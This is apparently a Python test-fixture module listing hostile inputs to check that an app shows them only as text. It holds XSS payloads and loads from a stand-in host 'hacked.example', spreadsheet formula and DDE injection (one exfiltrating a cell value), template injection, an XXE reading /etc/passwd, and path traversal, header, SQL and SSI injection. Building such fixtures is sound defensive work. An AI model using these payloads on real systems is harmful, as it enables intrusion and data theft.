"""Texts that mean harm, by what they are meant to harm: what somebody may type into a post, a name or a file's name.

Each `ACTS` text would do something where it is not taken as words: run, load, count, or move. They stand in verbatims,
titles, names, tags and notes, and every page, file and answer that shows them must show them as words.
"""

from __future__ import annotations

HACKED = "hacked"
"""What a script would set on the window, and what stands in every address that something might load."""

MARKUP = (
    "<script>window.hacked=1</script>",
    "<SCRIPT SRC=//hacked.example/x.js></SCRIPT>",
    "</script><script>window.hacked=1</script>",
    "</title></textarea></style><script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<img src=//hacked.example/pixel.png>",
    '"><img src=x onerror=window.hacked=1>',
    "' onmouseover=window.hacked=1 x='",
    '" autofocus onfocus=window.hacked=1 x="',
    "<svg onload=window.hacked=1><circle r=9></svg>",
    "<svg><script>window.hacked=1</script></svg>",
    "<svg><use href=//hacked.example/x.svg#a></svg>",
    "<math><mtext></mtext><img src=x onerror=window.hacked=1></math>",
    "<iframe src=javascript:window.hacked=1></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<object data=//hacked.example/x.swf></object>",
    "<embed src=//hacked.example/x.pdf>",
    "<base href=//hacked.example/>",
    "<meta http-equiv=refresh content='0;url=//hacked.example/'>",
    "<link rel=stylesheet href=//hacked.example/x.css>",
    "<style>@import '//hacked.example/x.css'; body{display:none}</style>",
    "<form action=//hacked.example/><input name=token></form>",
    "<a href=javascript:window.hacked=1>click</a>",
    "<details open ontoggle=window.hacked=1>",
    "<template><script>window.hacked=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
    "<!--><script>window.hacked=1</script-->",
    "<![CDATA[<script>window.hacked=1</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.hacked=1&#62;",
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
    "＜script＞window.hacked=1＜/script＞",
)
MARKDOWN = (
    "[click](javascript:window.hacked=1)",
    "[click](//hacked.example/)",
    "![pixel](//hacked.example/pixel.png)",
    "![pixel][1]\n\n[1]: https://hacked.example/pixel.png",
    "<https://hacked.example/>",
    "https://hacked.example/auto",
    "www.hacked.example",
    "`code` ~~~ ``` | cell | # heading ** bold ** $x$",
    "[x]: https://hacked.example/ 'title'",
)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://hacked.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML("https://hacked.example/","//a")',
    '"=1+1',
)
TEMPLATES = (
    "{{ 1337 * 1337 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${1337*1337}",
    "#{1337*1337}",
    "<%= 1337*1337 %>",
    "{0.__class__}",
    "%(password)s %s %n",
)
PRINTED = "1787569"
"""What comes of a template that is worked out."""

WORDS = (
    "\u202eevil reversed\u202c",
    "\u202enever closed",
    "\u2067\u2066isolated",
    "раypal.com and ａpple",
    "zero\u200bwidth\u200djoined\u2060",
    "Z\u0351\u036b\u0343a\u0340l\u0334g\u0321o\u0353 " * 3,
    "nul\x00byte",
    "bell\x07 escape\x1b[31mred\x1b[0m",
    "x" * 3000,
    "line\u2028separator\u2029paragraph",
)
HEADERS = (
    "Deck\r\nSet-Cookie: hacked=1",
    'Deck"; filename="hacked.exe',
    "../../../etc/hacked",
    "..\\..\\hacked",
    "/etc/hacked",
    "con.csv",
    "C:hacked",
)
DATA = (
    '{"__proto__": {"hacked": 1}}',
    "]]></text><text>",
    "'; DROP TABLE verbatims; --",
    '" OR 1=1 --',
    "<!--#exec cmd='id'-->",
)
ACTS = (*MARKUP, *MARKDOWN, *FORMULAS, *TEMPLATES, *WORDS, *HEADERS, *DATA)
